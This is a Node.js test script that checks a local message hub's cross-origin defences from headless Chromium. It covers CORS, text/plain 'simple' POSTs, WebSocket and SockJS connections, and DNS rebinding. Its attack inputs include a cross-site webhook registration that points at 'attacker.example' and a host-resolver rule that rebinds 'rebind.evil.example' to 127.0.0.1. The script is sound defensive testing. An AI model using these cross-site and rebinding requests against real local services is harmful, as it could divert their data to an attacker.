// A web page on another origin, in headless Chromium, tries what an attacker's page would against a
// hub on this machine: a "simple" text/plain POST that registers a webhook, a JSON publish, a read,
// an EventSource, a WebSocket and a SockJS connection. Against the hub with no allowed origins all
// of it fails; against a hub that lists the page's origin the legitimate calls work. A page whose
// host name an attacker points at 127.0.0.1 (DNS rebinding) gets 421.
// usage: node browser-origins.mjs CLOSED_HUB_URL OPEN_HUB_URL PAGE_PORT
import http from 'node:http';
import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { chromium } from 'playwright-core';
import { check, fail } from './lib.mjs';

const require = createRequire(import.meta.url);
const [, , closed, open, pagePort] = process.argv;
const sockjs = readFileSync(require.resolve('sockjs-client/dist/sockjs.min.js'));
const page = http.createServer((req, res) => {
  if (req.url === '/sockjs.min.js') {
    res.writeHead(200, { 'Content-Type': 'text/javascript' }).end(sockjs);
  } else {
    res.writeHead(200, { 'Content-Type': 'text/html' }).end('<!doctype html><title>elsewhere</title><script src="/sockjs.min.js"></script>');
  }
});
await new Promise(resolve => page.listen(Number(pagePort), '127.0.0.1', resolve));

// Everything the page tries against one hub; each entry says what the page could see.
async function attempt(tab, hub) {
  return tab.evaluate(async (hub) => {
    const result = {};
    const settle = (p) => p.then(r => `status ${r.status}`, e => `failed: ${e.name}`);
    result.simpleWebhook = await settle(fetch(`${hub}/api/v1/webhooks`, { method: 'POST', headers: { 'Content-Type': 'text/plain' },
      body: JSON.stringify({ url: 'https://attacker.example/hook', events: ['#'] }) }));
    result.publish = await settle(fetch(`${hub}/api/v1/topics/pages.hello`, { method: 'POST',
      headers: { 'Content-Type': 'application/json', 'ce-type': 'page.said' }, body: JSON.stringify({ from: 'page' }) }));
    result.read = await settle(fetch(`${hub}/api/v1/webhooks`));
    result.eventSource = await new Promise(resolve => {
      const source = new EventSource(`${hub}/api/v1/stream?topics=pages.*`);
      source.onopen = () => { source.close(); resolve('open'); };
      source.onerror = () => { source.close(); resolve('error'); };
    });
    result.webSocket = await new Promise(resolve => {
      const ws = new WebSocket(`${hub.replace('http', 'ws')}/ws/page-client`);
      ws.onmessage = (m) => { ws.close(); resolve(`message ${JSON.parse(m.data).type}`); };
      ws.onerror = () => resolve('error');
      setTimeout(() => resolve('timeout'), 5000);
    });
    result.sockjs = await new Promise(resolve => {
      const sock = new SockJS(`${hub}/eventbus`);
      sock.onopen = () => { sock.close(); resolve('open'); };
      sock.onclose = (e) => resolve(`closed ${e.code}`);
      setTimeout(() => resolve('timeout'), 8000);
    });
    return result;
  }, hub);
}

const browser = await chromium.launch({
  executablePath: '/usr/bin/chromium',
  args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking',
    '--host-resolver-rules=MAP rebind.evil.example 127.0.0.1'],
});
try {
  const tab = await browser.newPage();
  tab.on('pageerror', e => console.error('page error:', e.message));
  await tab.goto(`http://127.0.0.1:${pagePort}/`);

  const refused = await attempt(tab, closed);
  console.log('closed hub:', JSON.stringify(refused));
  check(refused.simpleWebhook.startsWith('failed'), `text/plain webhook POST: ${refused.simpleWebhook}`);
  check(refused.publish.startsWith('failed'), `JSON publish: ${refused.publish}`);
  check(refused.read.startsWith('failed'), `read: ${refused.read}`);
  check(refused.eventSource === 'error', `EventSource: ${refused.eventSource}`);
  check(refused.webSocket === 'error', `WebSocket: ${refused.webSocket}`);
  check(refused.sockjs !== 'open', `SockJS: ${refused.sockjs}`);
  const webhooks = await (await fetch(`${closed}/api/v1/webhooks`)).json();
  check(webhooks.webhooks.length === 0, `the simple POST registered nothing: ${JSON.stringify(webhooks)}`);

  const allowed = await attempt(tab, open);
  console.log('open hub:', JSON.stringify(allowed));
  check(allowed.simpleWebhook === 'status 415', `text/plain is refused even for an allowed origin: ${allowed.simpleWebhook}`);
  check(allowed.publish === 'status 202', `JSON publish: ${allowed.publish}`);
  check(allowed.read === 'status 200', `read: ${allowed.read}`);
  check(allowed.eventSource === 'open', `EventSource: ${allowed.eventSource}`);
  check(allowed.webSocket === 'message welcome', `WebSocket: ${allowed.webSocket}`);
  check(allowed.sockjs === 'open', `SockJS: ${allowed.sockjs}`);

  // DNS rebinding: the attacker's name resolves to 127.0.0.1; to the browser the page and the hub are one origin.
  const port = new URL(closed).port;
  const rebound = await tab.goto(`http://rebind.evil.example:${port}/api/v1/webhooks`);
  check(rebound.status() === 421, `a page on rebind.evil.example: ${rebound.status()}`);
  const sameOrigin = await tab.evaluate(async () => {
    const r = await fetch('/api/v1/webhooks', { method: 'POST', headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ url: 'https://attacker.example/hook', events: ['#'] }) });
    return r.status;
  });
  check(sameOrigin === 421, `its same-origin POST: ${sameOrigin}`);
  console.log('OK browser-origins');
} catch (e) {
  fail(e.stack || String(e));
} finally {
  await browser.close();
  page.close();
}
process.exit(0);
